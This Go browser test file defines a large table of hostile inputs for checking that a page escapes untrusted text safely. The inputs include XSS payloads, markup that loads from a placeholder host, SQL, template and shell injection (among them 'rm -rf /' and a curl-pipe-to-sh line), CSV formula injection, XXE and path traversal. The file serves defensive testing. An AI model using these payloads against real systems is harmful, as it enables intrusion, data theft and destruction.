//go:build browser

package main_test

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// hostileStrings returns texts that try to be more than text: to run pwn(), to
// reach the origin elsewhere, or to break what is around them.
func hostileStrings(t *testing.T, elsewhere string) []string {
	t.Helper()
	var out []string
	for _, group := range [][]string{hostileMarkup, hostileAttributes, hostileURLs, hostileTemplates, hostileStyles, hostileData, hostileText} {
		out = append(out, group...)
	}
	seen := map[string]bool{}
	for i, s := range out {
		s = strings.ReplaceAll(s, "//ELSEWHERE", strings.TrimPrefix(elsewhere, "http:"))
		out[i] = strings.ReplaceAll(s, "ELSEWHERE", elsewhere)
		if seen[s] {
			t.Errorf("the table has %q twice", s)
		}
		seen[s] = true
	}
	if len(out) < 200 {
		t.Fatalf("%d hostile strings; want 200", len(out))
	}
	return out
}

// hostileMarkup is elements that run something, load something or end what is open.
var hostileMarkup = []string{
	`<script>pwn(1)</script>`,
	`<SCRIPT SRC=ELSEWHERE/s.js></SCRIPT>`,
	`<script src="//ELSEWHERE/s.js" async></script>`,
	`<script type=module>import "ELSEWHERE/m.js"</script>`,
	`<script type="text/javascript">pwn(1);</script`,
	`<scr<script>ipt>pwn(1)</scr</script>ipt>`,
	`<script/xss>pwn(1)</script>`,
	"<script\x0c>pwn(1)</script>",
	"<scr\x00ipt>pwn(1)</scr\x00ipt>",
	`</script><script>pwn(1)</script>`,
	`</title><script>pwn(1)</script>`,
	`</textarea><script>pwn(1)</script>`,
	`</style><script>pwn(1)</script>`,
	`</noscript><script>pwn(1)</script>`,
	`</template><script>pwn(1)</script>`,
	`</xmp><script>pwn(1)</script>`,
	`</iframe><script>pwn(1)</script>`,
	`</select><script>pwn(1)</script>`,
	`</table></td></tr><script>pwn(1)</script>`,
	`--><script>pwn(1)</script><!--`,
	`--!><script>pwn(1)</script>`,
	`<!--><script>pwn(1)</script>`,
	`]]><script>pwn(1)</script>`,
	`?><script>pwn(1)</script>`,
	`%><script>pwn(1)</script>`,
	`<img src=x onerror=pwn(1)>`,
	`<img src=ELSEWHERE/i.png>`,
	`<img srcset="ELSEWHERE/i.png 2x" loading=eager>`,
	`<IMG """><SCRIPT>pwn(1)</SCRIPT>">`,
	`<image src=x onerror=pwn(1)>`,
	`<svg onload=pwn(1)>`,
	`<svg/onload=pwn(1)//`,
	`<svg><script>pwn(1)</script></svg>`,
	`<svg><script href=ELSEWHERE/s.js /></svg>`,
	`<svg><animate onbegin=pwn(1) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:pwn(1)"><text x=9 y=9>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>pwn(1)</script></svg>#x"/></svg>`,
	`<svg><foreignObject><iframe src=javascript:pwn(1)></foreignObject></svg>`,
	`<svg><style>{font-family:'<iframe/onload=pwn(1)>'}</style>`,
	`<svg></p><style><a id="</style><img src=1 onerror=pwn(1)>">`,
	`<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn(1) src>">`,
	`<math href="javascript:pwn(1)">x</math>`,
	`<math><maction actiontype="statusline#ELSEWHERE" xlink:href="javascript:pwn(1)">x</maction></math>`,
	`<iframe src="javascript:pwn(1)"></iframe>`,
	`<iframe srcdoc="<script>parent.pwn(1)</script>"></iframe>`,
	`<iframe src=ELSEWHERE/frame></iframe>`,
	`<frameset><frame src=javascript:pwn(1)></frameset>`,
	`<object data="javascript:pwn(1)"></object>`,
	`<object data=ELSEWHERE/o type=text/html></object>`,
	`<embed src="javascript:pwn(1)">`,
	`<applet code=javascript:pwn(1)>`,
	`<portal src=ELSEWHERE/portal></portal>`,
	`<base href=ELSEWHERE/>`,
	`<base href="javascript:/a/-pwn(1)///////">`,
	`<meta http-equiv=refresh content="0;url=ELSEWHERE/r">`,
	`<meta http-equiv=refresh content="0;url=javascript:pwn(1)">`,
	`<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
	`<meta http-equiv=Set-Cookie content="waybill=x">`,
	`<link rel=stylesheet href=ELSEWHERE/s.css>`,
	`<link rel=preload as=script href=ELSEWHERE/p.js>`,
	`<link rel=prefetch href=ELSEWHERE/p>`,
	`<link rel=dns-prefetch href=ELSEWHERE>`,
	`<link rel=preconnect href=ELSEWHERE>`,
	`<link rel=icon href=ELSEWHERE/icon>`,
	`<link rel=modulepreload href=ELSEWHERE/m.js>`,
	`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["ELSEWHERE/s"]}]}</script>`,
	`<script type=importmap>{"imports":{"./dom.js":"ELSEWHERE/dom.js"}}</script>`,
	`<form action=ELSEWHERE/f><input name=q autofocus onfocus=this.form.submit()></form>`,
	`<form id=main><input name=textContent><input name=append></form>`,
	`<input autofocus onfocus=pwn(1)>`,
	`<select autofocus onfocus=pwn(1)>`,
	`<textarea autofocus onfocus=pwn(1)>`,
	`<details open ontoggle=pwn(1)>`,
	`<dialog open onclose=pwn(1)>`,
	`<video src=x onerror=pwn(1)></video>`,
	`<video poster=ELSEWHERE/poster></video>`,
	`<audio src=ELSEWHERE/a autoplay onerror=pwn(1)>`,
	`<video><source onerror=pwn(1)></video>`,
	`<track src=ELSEWHERE/t default>`,
	`<body onload=pwn(1)>`,
	`<marquee onstart=pwn(1)>x</marquee>`,
	`<isindex type=image src=1 onerror=pwn(1)>`,
	`<noscript><p title="</noscript><img src=x onerror=pwn(1)>">`,
	`<template><script>pwn(1)</script></template>`,
	`<div><template shadowrootmode=open><script>pwn(1)</script></template></div>`,
	`<x onclick=pwn(1) style=position:fixed;inset:0>x`,
	`<a href=javascript:pwn(1) autofocus onfocus=click()>x</a>`,
	`<a href=ELSEWHERE/a ping=ELSEWHERE/ping>x</a>`,
	`<button popovertarget=x onbeforetoggle=pwn(1)>x</button><div popover id=x>x</div>`,
	`<style>@import "ELSEWHERE/i.css";</style>`,
	`<plaintext>`,
	`<xmp>`,
	`<!DOCTYPE html SYSTEM "ELSEWHERE/dtd">`,
	`<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>`,
	`<?xml-stylesheet href="ELSEWHERE/x.xsl"?>`,
	`<![CDATA[<script>pwn(1)</script>]]>`,
	`<`,
	`<<<<<<<<<<<<`,
	`</`,
}

// hostileAttributes end an attribute's value and add another, and entities.
var hostileAttributes = []string{
	`"><script>pwn(1)</script>`,
	`'><script>pwn(1)</script>`,
	`" onmouseover="pwn(1)`,
	`' onfocus='pwn(1)' autofocus='`,
	"` onload=`pwn(1)`",
	`x onpointerenter=pwn(1) y`,
	`" style="background:url(ELSEWHERE/bg)`,
	`" autofocus tabindex=1 onfocus=pwn(1) x="`,
	`"/><img src=x onerror=pwn(1)><a b="`,
	`&lt;script&gt;pwn(1)&lt;/script&gt;`,
	`&#60;script&#62;pwn(1)&#60;/script&#62;`,
	`&#x3c;img src=x onerror=pwn(1)&#x3e;`,
	`&quot;&gt;&lt;svg onload=pwn(1)&gt;`,
	`&amp;lt;script&amp;gt;`,
	`%3Cscript%3Epwn(1)%3C/script%3E`,
	`%253Cscript%253Epwn(1)%253C/script%253E`,
	`\x3cscript\x3epwn(1)\x3c/script\x3e`,
	`\u003cscript\u003epwn(1)\u003c/script\u003e`,
	`+ADw-script+AD4-pwn(1)+ADw-/script+AD4-`,
	"\u00bcscript\u00bepwn(1)\u00bc/script\u00be",
	"\uff1cscript\uff1epwn(1)\uff1c/script\uff1e",
	"\u2039img src=x onerror=pwn(1)\u203a",
}

// hostileURLs are texts that run or leave the page where they become a link.
var hostileURLs = []string{
	`javascript:pwn(1)`,
	`JaVaScRiPt:pwn(1)`,
	" \x01javascript:pwn(1)",
	"java\tscript:pwn(1)",
	"java\nscript:pwn(1)",
	`javascript://ELSEWHERE/%0apwn(1)`,
	`javascript&colon;pwn(1)`,
	`data:text/html,<script>opener.pwn(1)</script>`,
	`data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=`,
	`data:application/javascript,pwn(1)`,
	`vbscript:msgbox(1)`,
	`blob:ELSEWHERE/0`,
	`file:///etc/passwd`,
	`filesystem:ELSEWHERE/x`,
	`view-source:ELSEWHERE`,
	`chrome://settings`,
	`//ELSEWHERE/x`,
	`\\ELSEWHERE\x`,
	`ELSEWHERE/?x=1#y`,
	`../../../../etc/passwd`,
	`..%2f..%2fapi%2fv1%2fsession`,
	`#/deliveries/1?filter=x`,
	`?token=x&filter=y#z`,
	`%00%0d%0aSet-Cookie:%20x=y`,
	"a\r\nSet-Cookie: x=y\r\n\r\n<script>pwn(1)</script>",
	`https://user:pass@ELSEWHERE:99999/`,
}

// hostileTemplates are for what evaluates text: templates, shells, SQL, formats.
var hostileTemplates = []string{
	`{{constructor.constructor('pwn(1)')()}}`,
	`{{7*7}}${7*7}<%= 7*7 %>#{7*7}`,
	"${pwn(1)}",
	"`${pwn(1)}`",
	`{{.Body}}{{printf "%s" .Token}}{{template "x"}}`,
	`{% include "/etc/passwd" %}`,
	`<%= system("id") %>`,
	`[[${pwn(1)}]]`,
	`@(pwn(1))`,
	`#set($x=1)$x`,
	`');pwn(1);//`,
	`";pwn(1);//`,
	`\";pwn(1);//`,
	`</script>";pwn(1);//`,
	`'-pwn(1)-'`,
	`$(touch /tmp/pwned)`,
	"`touch /tmp/pwned`",
	`; rm -rf / #`,
	`' | curl ELSEWHERE/x | sh #`,
	`!!`,
	`%s%n%x%d%!v(PANIC=x)`,
	`'; DROP TABLE deliveries; --`,
	`" OR 1=1 --`,
	`%' ESCAPE '\`,
	`=cmd|' /C calc'!A0`,
	`+HYPERLINK("ELSEWHERE/x","x")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	"\t=1+1",
	`=IMPORTXML("ELSEWHERE/x","//a")`,
}

// hostileStyles are for what puts text into a style.
var hostileStyles = []string{
	`;background:url(ELSEWHERE/bg)`,
	`}*{display:none}`,
	`</style><style>*{background:url(ELSEWHERE/all)}</style>`,
	`expression(pwn(1))`,
	`url(javascript:pwn(1))`,
	`@import url(ELSEWHERE/i.css);`,
	`\3c script\3e`,
	`-moz-binding:url(ELSEWHERE/x.xml#x)`,
	`*/body{visibility:hidden}/*`,
	`var(--x,url(ELSEWHERE/v))`,
	`position:fixed;inset:0;z-index:9999`,
}

// hostileData are values that break readers of data.
var hostileData = []string{
	`","x":"y`,
	`\`,
	`\\"`,
	`\u0000`,
	`{"__proto__":{"polluted":1}}`,
	`__proto__`,
	`constructor`,
	`toString`,
	`hasOwnProperty`,
	`then`,
	`null`,
	`undefined`,
	`NaN`,
	`-0`,
	`1e999`,
	`true`,
	`[object Object]`,
	`id: 5`,
	"data: x\n\nevent: y\ndata: pwn(1)\n\n",
	"\n\ndata: {}\n\n",
	`)]}',`,
	`<!--#exec cmd="id"-->`,
	`00123456789012345678901234567890`,
	`9007199254740993`,
	`Robert'); --`,
}

// hostileText hides, reorders or floods.
var hostileText = []string{
	"",
	" ",
	"\u00a0",
	"a\u202egnp.exe\u202c",
	"\u2066\u2067\u2068evil\u2069",
	"\u200e\u200f\u061c",
	"zero\u200bwidth\u200cjoin\u200der\ufeff",
	"soft\u00adhyphen",
	"tag\U000e0041\U000e0042\U000e007f",
	"\u2028pwn(1)\u2029",
	"\u0085next line",
	"a\x00b",
	"\x07\x08\x7f",
	"\x1b[2J\x1b[31mred\x1b[0m",
	"\x1b]0;title\x07",
	"\x1b]8;;ELSEWHERE/x\x1b\\link\x1b]8;;\x1b\\",
	"\u009b31mC1",
	"\u009d0;title\u009c",
	"over\rwritten",
	"שלום עולם <b>",
	"مرحبا <script>pwn(1)</script>",
	"Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
	"👩‍👩‍👧‍👦🏳️‍🌈",
	"\ufffd\uffff\ufdd0",
	"\ue000\uf8ff",
	"ﷺ" + "𝕊𝕔𝕣𝕚𝕡𝕥",
	"раураl",
	"ﬀ<ıİſK",
	strings.Repeat("A", 5000),
	strings.Repeat("<b>", 1500),
	strings.Repeat("\u0301", 500),
	strings.Repeat("\u202e", 200),
	strings.Repeat("a ", 2000),
	strings.Repeat("\n", 300),
	strings.Repeat("[", 2000),
}

// plainPart is a part of a text, of letters and digits, that a page must show
// as it is; empty if the text has none. What a page escapes, cuts or breaks is
// not part of it.
func plainPart(s string) string {
	best, from := "", 0
	for i := 0; i <= len(s); {
		r, n := utf8.DecodeRuneInString(s[i:])
		if i < len(s) && r < 0x7f && r > ' ' {
			i += n
			continue
		}
		if i-from > len(best) {
			best = s[from:i]
		}
		i += max(n, 1)
		from = i
	}
	return best[:min(len(best), 40)]
}
